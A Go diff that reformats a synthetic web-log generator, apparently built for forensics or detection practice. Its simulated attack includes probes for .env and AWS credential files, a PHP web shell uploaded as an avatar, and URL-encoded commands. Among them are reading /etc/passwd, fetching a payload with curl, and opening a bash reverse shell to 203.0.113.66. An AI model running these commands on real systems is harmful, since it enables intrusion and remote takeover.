@@ -94,8 +94,13 @@ func (w *webJournal) scan() {
 		target string
 		status int
 	}{
-		{"/.git/config", 403}, {"/.git/HEAD", 403}, {"/.aws/credentials", 404}, {"/wp-config.php.bak", 404},
-		{"/phpinfo.php", 404}, {"/backup.zip", 404}, {"/.env", 200},
+		{"/.git/config", 403},
+		{"/.git/HEAD", 403},
+		{"/.aws/credentials", 404},
+		{"/wp-config.php.bak", 404},
+		{"/phpinfo.php", 404},
+		{"/backup.zip", 404},
+		{"/.env", 200},
 	} {
 		t = t.Add(2 * time.Second)
 		size := 162
@@ -136,8 +141,12 @@ func (w *webJournal) shell() {
 	w.log(at("23:20:12"), request{intruder, "POST", "/account/avatar.php", 302, 0, "https://www.bikes.example.com/account", agent})
 	w.log(at("23:20:31"), request{intruder, "GET", "/uploads/avatars/a7f3.php", 200, 17, "", agent})
 	for _, c := range []struct{ clock, command string }{
-		{"23:20:55", "id"}, {"23:21:03", "uname%20-a"}, {"23:21:20", "cat%20/etc/passwd"}, {"23:22:02", "ls%20-la%20/srv/shop"},
-		{"23:23:15", "curl%20-o%20/dev/shm/kw%20http://203.0.113.66/kw"}, {"23:24:40", "bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/203.0.113.66/4444%200%3E%261%27"},
+		{"23:20:55", "id"},
+		{"23:21:03", "uname%20-a"},
+		{"23:21:20", "cat%20/etc/passwd"},
+		{"23:22:02", "ls%20-la%20/srv/shop"},
+		{"23:23:15", "curl%20-o%20/dev/shm/kw%20http://203.0.113.66/kw"},
+		{"23:24:40", "bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/203.0.113.66/4444%200%3E%261%27"},
 	} {
 		w.log(at(c.clock), request{intruder, "GET", "/uploads/avatars/a7f3.php?c=" + c.command, 200, 20 + w.IntN(2500), "", agent})
 	}
